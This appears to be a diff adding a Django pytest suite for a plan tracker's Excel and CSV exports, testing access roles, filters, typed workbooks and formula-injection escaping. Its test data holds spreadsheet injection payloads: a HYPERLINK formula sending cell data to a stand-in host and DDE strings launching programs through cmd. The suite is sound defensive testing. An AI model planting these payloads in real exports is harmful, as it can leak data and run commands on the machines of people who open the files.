@@ -1,0 +1,409 @@
+"""Excel and CSV exports: scoped, filtered like the dashboards, typed, safe to open, streamed."""
+
+import csv
+import datetime as dt
+import io
+import logging
+import re
+import zipfile
+
+import openpyxl
+import pandas as pd
+import pytest
+from django.contrib.auth import get_user_model
+from django.core.management import CommandError, call_command
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from django.utils import timezone
+
+from plans.choices import RAG, STATUS_STYLE, Status, UpdateSource
+from plans.models import Action, Objective, Owner, StatusUpdate
+from plans.querysets import end_of_day
+from plans.services import apply_status_update
+
+XLSX = reverse("export-actions-xlsx")
+CSV = reverse("export-actions-csv")
+READERS = ["southwark_editor", "lambeth_editor", "oversight", "analyst", "administrator"]
+INJECTIONS = [
+    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C notepad'!A1",
+    "@SUM(A1:A9)",
+    "\t=1+1 tabbed",
+    "\r=1+1 carriage",
+]
+
+
+def get_xlsx(client, query=""):
+    response = client.get(XLSX + query)
+    assert response.status_code == 200, response.content[:500]
+    return b"".join(response.streaming_content)
+
+
+def get_csv(client, query=""):
+    response = client.get(CSV + query)
+    assert response.status_code == 200
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def sheet_rows(data, name):
+    workbook = openpyxl.load_workbook(io.BytesIO(data))
+    ws = workbook[name]
+    rows = list(ws.iter_rows(values_only=True))
+    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+def exported_ids(client, query):
+    return {row["Action ID"] for row in sheet_rows(get_xlsx(client, query), "Actions")}
+
+
+# --- who may export --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("role", READERS)
+def test_every_role_can_export_both_formats_as_attachments(client_as, role):
+    client = client_as(role)
+    for url, kind, ext in ((XLSX, "spreadsheetml", "xlsx"), (CSV, "text/csv", "csv")):
+        response = client.get(url)
+        assert response.status_code == 200
+        assert response.streaming, "exports are streamed, never built as one string"
+        assert kind in response["Content-Type"]
+        assert response["X-Content-Type-Options"] == "nosniff"
+        assert re.match(
+            rf'attachment; filename="trustplan-actions-\d{{8}}-\d{{4}}\.{ext}"',
+            response["Content-Disposition"],
+        )
+
+
+def test_a_user_without_a_role_cannot_export(world, client):
+    user = get_user_model().objects.create_user("no.role", password="x-unused-password-1")
+    client.force_login(user)
+    assert client.get(XLSX).status_code == 403
+    assert client.get(CSV).status_code == 403
+
+
+def test_anonymous_is_sent_to_log_in(client):
+    response = client.get(XLSX)
+    assert response.status_code == 302
+    assert "/accounts/login/" in response["Location"]
+
+
+def test_invalid_filters_are_a_400_naming_the_filter(client_as):
+    response = client_as("analyst").get(XLSX + "?rag=purple&borough=gotham")
+    assert response.status_code == 400
+    body = response.content.decode()
+    assert "RAG:" in body and "Borough:" in body
+
+
+def test_every_export_is_logged_with_who_filters_and_rows(client_as, caplog):
+    with caplog.at_level(logging.INFO, logger="trustplan.security"):
+        get_xlsx(client_as("analyst"), "?borough=lambeth&rag=red")
+        get_csv(client_as("oversight"), "?borough=southwark")
+    messages = [r.getMessage() for r in caplog.records if r.name == "trustplan.security"]
+    xlsx = next(m for m in messages if "format=xlsx" in m)
+    assert "user=analyst" in xlsx and "Borough=Lambeth" in xlsx and "RAG=red" in xlsx
+    assert re.search(r"Actions=\d+", xlsx) and re.search(r"Status history=\d+", xlsx)
+    csv_line = next(m for m in messages if "format=csv" in m)
+    assert "user=mopac.oversight" in csv_line and "Actions=61" in csv_line
+
+
+# --- filters ---------------------------------------------------------------------------------
+
+
+def _ids(qs):
+    return set(qs.values_list("pk", flat=True))
+
+
+def _stale_ids(now):
+    ids = set()
+    for action in Action.objects.select_related("objective__plan"):
+        if action.is_stale(now=now):
+            ids.add(action.pk)
+    return ids
+
+
+FILTER_CASES = {
+    "borough": (
+        "?borough=lambeth",
+        lambda: _ids(Action.objects.filter(objective__plan__borough__slug="lambeth")),
+    ),
+    "bcu": (
+        "?bcu=central-south",
+        lambda: _ids(Action.objects.filter(objective__plan__borough__bcu__slug="central-south")),
+    ),
+    "pillar": (
+        "?pillar=less-crime",
+        lambda: _ids(Action.objects.filter(objective__pillar__slug="less-crime")),
+    ),
+    "driver": (
+        "?driver=accountability",
+        lambda: _ids(Action.objects.filter(drivers__slug="accountability")),
+    ),
+    "rag": (
+        "?rag=red&rag=amber",
+        lambda: _ids(Action.objects.filter(rag__in=["red", "amber"], completed=False)),
+    ),
+    "stale": ("?stale=true", lambda: _stale_ids(timezone.now())),
+    "overdue": (
+        "?overdue=true",
+        lambda: _ids(Action.objects.filter(due_date__lt=timezone.localdate(), completed=False)),
+    ),
+}
+
+
+@pytest.fixture
+def aged(southwark_plan):
+    """Some Southwark actions last reviewed two months ago, one of them due last month."""
+    ids = list(
+        Action.objects.filter(objective__plan=southwark_plan).order_by("pk").values_list("pk", flat=True)[:5]
+    )
+    Action.objects.filter(pk__in=ids).update(last_reviewed_at=timezone.now() - dt.timedelta(days=60))
+    Action.objects.filter(pk=ids[0]).update(due_date=timezone.localdate() - dt.timedelta(days=30))
+    return ids
+
+
+@pytest.mark.parametrize("name", sorted(FILTER_CASES))
+def test_export_honours_each_filter(client_as, aged, name):
+    query, expected = FILTER_CASES[name]
+    client = client_as("analyst")
+    everything = exported_ids(client, "")
+    wanted = expected()
+    assert wanted, f"the world has no action for {query}: the test could not fail"
+    assert wanted < everything
+    assert exported_ids(client, query) == wanted
+    assert {int(r["Action ID"]) for r in get_csv(client, query)} == wanted
+
+
+def test_export_honours_the_objective_and_owner_filters(client_as, southwark_plan):
+    client = client_as("oversight")
+    objective = Objective.objects.filter(plan=southwark_plan).order_by("pillar__order", "number")[2]
+    assert exported_ids(client, f"?objective={objective.pk}") == _ids(objective.actions.all())
+    owner = Owner.objects.filter(borough__slug="southwark", actions__isnull=False).order_by("pk").first()
+    assert exported_ids(client, f"?owner={owner.pk}") == _ids(owner.actions.all())
+    assert 0 < len(_ids(owner.actions.all())) < 61
+
+
+def test_export_as_at_a_date_rebuilds_status_and_history_from_the_updates(client_as, lambeth_plan):
+    updates = StatusUpdate.objects.filter(action__objective__plan=lambeth_plan).order_by("created_at")
+    first, last = updates.first().created_at, updates.last().created_at
+    day = timezone.localdate(first + (last - first) / 2)
+    cutoff = end_of_day(day)
+    expected = {}
+    for update in updates.filter(created_at__lt=cutoff).order_by("created_at", "version"):
+        expected[update.action_id] = Status.COMPLETE if update.to_completed else Status(update.to_rag)
+    data = get_xlsx(client_as("analyst"), f"?borough=lambeth&as_at={day:%Y-%m-%d}")
+    actions = sheet_rows(data, "Actions")
+    got = {r["Action ID"]: (Status.COMPLETE if r["Complete"] else r["RAG"]) for r in actions}
+    want = {pk: (s if s == Status.COMPLETE else Status(s).label) for pk, s in expected.items()}
+    assert got == want
+    history = sheet_rows(data, "Status history")
+    assert history and all(r["When"] < timezone.localtime(cutoff).replace(tzinfo=None) for r in history)
+    assert len(history) == updates.filter(created_at__lt=cutoff).count() < updates.count()
+    about = {r["Item"]: r["Value"] for r in sheet_rows(data, "About")}
+    assert about["Status as at"] == f"end of {day:%Y-%m-%d}"
+
+
+def test_the_export_command_takes_the_same_filters(world, tmp_path):
+    out = tmp_path / "southwark-red.xlsx"
+    call_command(
+        "export_xlsx", "--out", str(out), "--borough", "southwark", "--rag", "red", stdout=io.StringIO()
+    )
+    rows = sheet_rows(out.read_bytes(), "Actions")
+    assert (
+        len(rows) == 4
+        and {r["Borough"] for r in rows} == {"Southwark"}
+        and {r["RAG"] for r in rows} == {"Red"}
+    )
+    assert (
+        len(rows)
+        == Action.objects.filter(
+            objective__plan__borough__slug="southwark", rag="red", completed=False
+        ).count()
+    )
+    about = {r["Item"]: r["Value"] for r in sheet_rows(out.read_bytes(), "About")}
+    assert about["Generated by"] == "manage.py (administrator scope)"
+    as_user = tmp_path / "as-user.xlsx"
+    call_command(
+        "export_xlsx",
+        "--out",
+        str(as_user),
+        "--user",
+        "lambeth.editor",
+        "--stale",
+        "true",
+        stdout=io.StringIO(),
+    )
+    assert {r["Item"]: r["Value"] for r in sheet_rows(as_user.read_bytes(), "About")}[
+        "Generated by"
+    ] == "lambeth.editor"
+    with pytest.raises(CommandError, match="rag"):
+        call_command("export_xlsx", "--out", str(out), "--rag", "purple")
+    with pytest.raises(CommandError, match="no role"):
+        get_user_model().objects.create_user("nobody.here", password="x-unused-password-1")
+        call_command("export_xlsx", "--out", str(out), "--user", "nobody.here")
+
+
+# --- a typed, readable workbook ----------------------------------------------------------------
+
+
+def test_the_workbook_reads_back_with_openpyxl_with_real_types_and_layout(client_as, southwark_plan):
+    action = Action.objects.filter(objective__plan=southwark_plan).order_by("pk").first()
+    Action.objects.filter(pk=action.pk).update(due_date=dt.date(2026, 3, 31))
+    data = get_xlsx(client_as("analyst"), "?borough=southwark")
+    workbook = openpyxl.load_workbook(io.BytesIO(data))
+    assert workbook.sheetnames == [
+        "Summary",
+        "Actions",
+        "Status history",
+        "Driver coverage",
+        "Driver gaps",
+        "Force plan",
+        "Milestones",
+        "About",
+    ]
+    ws = workbook["Actions"]
+    header = [c.value for c in ws[1]]
+    assert header[:8] == ["Borough", "BCU", "Pillar", "Objective", "Action", "Owners", "Drivers", "RAG"]
+    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:O{ws.max_row}"
+    assert ws.column_dimensions["E"].width >= 50
+    rows = {r[14].value: r for r in ws.iter_rows(min_row=2)}
+    assert len(rows) == 61
+    first = rows[action.pk]
+    assert first[8].value == dt.datetime(2026, 3, 31) and first[8].number_format == "yyyy-mm-dd"
+    assert first[9].value is False and isinstance(first[14].value, int)
+    assert isinstance(first[12].value, dt.datetime)
+    for row in rows.values():
+        word, fill = row[7].value, row[7].fill.fgColor.rgb
+        status = {s.label: s for s in Status}[word]
+        assert fill[-6:].upper() == STATUS_STYLE[status]["bg"][1:].upper(), (
+            "RAG cells are filled in their colour"
+        )
+    summary = workbook["Summary"]
+    totals = {c.value: 0 for c in summary[1][2:7]}
+    for row in summary.iter_rows(min_row=2, values_only=True):
+        for label, count in zip(list(totals), row[2:7], strict=True):
+            assert isinstance(count, int)
+            totals[label] += count
+    assert totals == {"Red": 4, "Amber": 17, "Green": 39, "Not rated": 1, "Complete": 0}
+
+
+def test_the_workbook_reads_back_with_pandas_with_real_types(client_as):
+    data = get_xlsx(client_as("oversight"), "?borough=lambeth&borough=southwark")
+    sheets = pd.read_excel(io.BytesIO(data), sheet_name=None, engine="openpyxl")
+    actions = sheets["Actions"]
+    assert (
+        len(actions)
+        == Action.objects.filter(objective__plan__borough__slug__in=["lambeth", "southwark"]).count()
+    )
+    assert pd.api.types.is_bool_dtype(actions["Complete"]) and pd.api.types.is_bool_dtype(actions["Stale"])
+    assert pd.api.types.is_integer_dtype(actions["Action ID"])
+    assert pd.api.types.is_datetime64_any_dtype(actions["Last update"])
+    history = sheets["Status history"]
+    assert pd.api.types.is_datetime64_any_dtype(history["When"]) and pd.api.types.is_integer_dtype(
+        history["Version"]
+    )
+    assert (
+        len(history)
+        == StatusUpdate.objects.filter(
+            action__objective__plan__borough__slug__in=["lambeth", "southwark"]
+        ).count()
+    )
+    summary = sheets["Summary"]
+    assert pd.api.types.is_integer_dtype(summary["Total"]) and summary["Total"].sum() == len(actions)
+    coverage = sheets["Driver coverage"].set_index("Borough")
+    assert coverage.loc["Southwark", "Actions"] == 61
+    assert pd.api.types.is_integer_dtype(coverage["Police accountability"])
+    southwark_accountability = Action.objects.filter(
+        objective__plan__borough__slug="southwark", drivers__slug="accountability"
+    ).count()
+    assert coverage.loc["Southwark", "Police accountability"] == southwark_accountability > 0
+
+
+# --- safety ----------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def poisoned(southwark_plan, southwark_editor):
+    """Southwark actions carrying formula-like text and a control character, as a user might type."""
+    actions = list(
+        Action.objects.filter(objective__plan=southwark_plan).order_by("pk")[: len(INJECTIONS) + 1]
+    )
+    for action, text in zip(actions, INJECTIONS, strict=False):
+        Action.objects.filter(pk=action.pk).update(text=text)
+    bell = actions[-1]
+    Action.objects.filter(pk=bell.pk).update(text="Bell\x07 and form feed\x0c inside")
+    owner = Owner.objects.create(borough=southwark_plan.borough, key="team:evil", label="=cmd|' /C calc'!A0")
+    actions[0].owners.add(owner)
+    action = Action.objects.get(pk=actions[1].pk)
+    apply_status_update(
+        action=action,
+        user=southwark_editor,
+        seen_version=action.version,
+        rag=RAG.RED,
+        commentary="=1+2 and more words follow here",
+        source=UpdateSource.PAGE,
+    )
+    return actions
+
+
+def test_formula_injection_strings_are_written_as_text_never_formulas(client_as, poisoned):
+    data = get_xlsx(client_as("analyst"), "?borough=southwark")
+    archive = zipfile.ZipFile(io.BytesIO(data))
+    xml = {name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".xml")}
+    sheets = {n: x for n, x in xml.items() if n.startswith("xl/worksheets/sheet")}
+    assert sheets and not any("<f>" in x or "<f " in x for x in sheets.values()), (
+        "no formula element anywhere"
+    )
+    actions_xml = sheets["xl/worksheets/sheet2.xml"]
+    for text in INJECTIONS[:4]:
+        escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+        assert re.search(r't="inlineStr"[^>]*><is><t[^>]*>' + re.escape(escaped) + "</t>", actions_xml) or (
+            escaped in xml.get("xl/sharedStrings.xml", "")
+        ), text
+    workbook = openpyxl.load_workbook(io.BytesIO(data))
+    values = {c.value for row in workbook["Actions"].iter_rows() for c in row}
+    for text in INJECTIONS:
+        # a CR is stored as Excel's escape _x000D_ (openpyxl does not unescape it): still text
+        assert text in values or text.replace("\r", "_x000D_") in values, f"{text!r} survives as text"
+    cells = [c for row in workbook["Actions"].iter_rows() for c in row if isinstance(c.value, str)]
+    risky = [c for c in cells if c.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)
+    assert "Bell and form feed inside" in values, "control characters are stripped"
+    history = {c.value for row in workbook["Status history"].iter_rows() for c in row}
+    assert "=1+2 and more words follow here" in history
+
+
+def test_csv_prefixes_formula_like_fields_with_an_apostrophe(client_as, poisoned):
+    rows = get_csv(client_as("analyst"), "?borough=southwark")
+    texts = {r["Action"] for r in rows}
+    for text in INJECTIONS:
+        assert "'" + text in texts
+    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for t in r.values())
+    owners = {r["Owners"] for r in rows}
+    assert any(o.startswith("'=cmd") or "; =cmd" in o for o in owners)
+    assert "Bell and form feed inside" in texts
+
+
+# --- fast and scoped -----------------------------------------------------------------------------
+
+
+def test_the_number_of_queries_does_not_grow_with_the_data(client_as, django_assert_max_num_queries):
+    from plans.synthetic import make_synthetic
+
+    client = client_as("analyst")
+
+    def count():
+        with CaptureQueriesContext(connection) as ctx:
+            get_xlsx(client)
+        return len(ctx.captured_queries)
+
+    before = count()
+    make_synthetic(boroughs=4, months=4, seed=7, actions_per_plan=12)
+    after = count()
+    assert after == before
+    with django_assert_max_num_queries(30):
+        get_xlsx(client)
+    with django_assert_max_num_queries(12):
+        get_csv(client)
